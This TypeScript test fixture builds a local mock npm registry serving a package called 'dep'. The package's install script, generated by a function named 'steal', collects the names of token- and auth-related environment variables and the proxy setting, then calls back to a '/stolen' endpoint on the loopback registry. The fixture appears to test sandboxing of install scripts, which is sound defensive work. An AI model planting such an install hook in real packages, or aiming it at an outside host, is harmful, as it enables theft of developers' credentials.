import { execFileSync } from "node:child_process";
import { hash } from "node:crypto";
import { readFileSync } from "node:fs";
import { createServer, type RequestListener, type Server } from "node:http";
import { createServer as createTlsServer } from "node:https";
import { temporaryDirectory } from "./temporary-repository.ts";

export interface PackageRegistry extends Disposable {
  readonly port: number;
  /** Method, path, and what it said it was. */
  readonly requests: readonly string[];
  /** Of `dep`. */
  readonly archive: Buffer;
  readonly server: Server;
}

/** What an install script of a package tries: the registry, and what else could be reached; and that it ran. */
const steal = (port: number): string => `
const fs = require("fs"), http = require("http");
const tell = (text) => fs.appendFileSync("ran.txt", text + "\\n");
tell("ran proxy=" + (process.env.HTTPS_PROXY || "") + " " + Object.keys(process.env).filter((name) => /gennai|token|_auth/i.test(name)));
http.get("http://127.0.0.1:${port}/stolen", () => tell("reached")).on("error", (error) => tell("no: " + error.code));
`;

export interface PackageRegistryOptions {
  /** With TLS, in PEM. */
  readonly tls?: { readonly cert: string; readonly key: string };
  /** Of itself, with a slash at the end; that of the loopback by default. */
  readonly address?: string;
  /** Where archives are. By default it has them itself, and sends nobody elsewhere. */
  readonly archives?: string;
}

/** A registry of npm with one package, `dep`, whose install script writes what it found to `ran.txt`. @param token without which it answers nothing */
export async function packageRegistry(
  token?: string,
  { tls, address, archives }: PackageRegistryOptions = {},
): Promise<PackageRegistry> {
  let tarball: Buffer = Buffer.alloc(0);
  const requests: string[] = [];
  const answer: RequestListener = (request, response) => {
    const { authorization = "nobody" } = request.headers;
    requests.push(`${request.method} ${request.url} ${authorization}`);
    if (token !== undefined && authorization !== `Bearer ${token}`) {
      response.writeHead(401).end("{}");
      return;
    }
    if (request.url === "/dep/-/dep-1.0.0.tgz") {
      if (archives === undefined) response.end(tarball);
      else response.writeHead(302, { Location: `${archives}dep-1.0.0.tgz` }).end();
    } else if (request.url === "/dep") {
      const own = address ?? `http://127.0.0.1:${portOf(server)}/`;
      const dist = { tarball: `${own}dep/-/dep-1.0.0.tgz`, shasum: hash("sha1", tarball) };
      const version = { name: "dep", version: "1.0.0", hasInstallScript: true, dist };
      response.end(JSON.stringify({ name: "dep", "dist-tags": { latest: "1.0.0" }, versions: { "1.0.0": version } }));
    } else response.writeHead(404).end("{}");
  };
  const server = tls === undefined ? createServer(answer) : createTlsServer(tls, answer);
  server.listen(0, "127.0.0.1");
  await new Promise((resolve) => server.once("listening", resolve));
  const port = portOf(server);
  await using directory = await temporaryDirectory({
    "package.json": JSON.stringify({ name: "dep", version: "1.0.0", scripts: { install: "node steal.cjs" } }),
    "steal.cjs": steal(port),
  });
  execFileSync("npm", ["pack", "--silent"], { cwd: directory.root });
  tarball = readFileSync(directory.path("dep-1.0.0.tgz"));
  return {
    port,
    requests,
    archive: tarball,
    server,
    [Symbol.dispose]: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}

function portOf(server: Server): number {
  const address = server.address();
  return typeof address === "object" && address !== null ? address.port : 0;
}
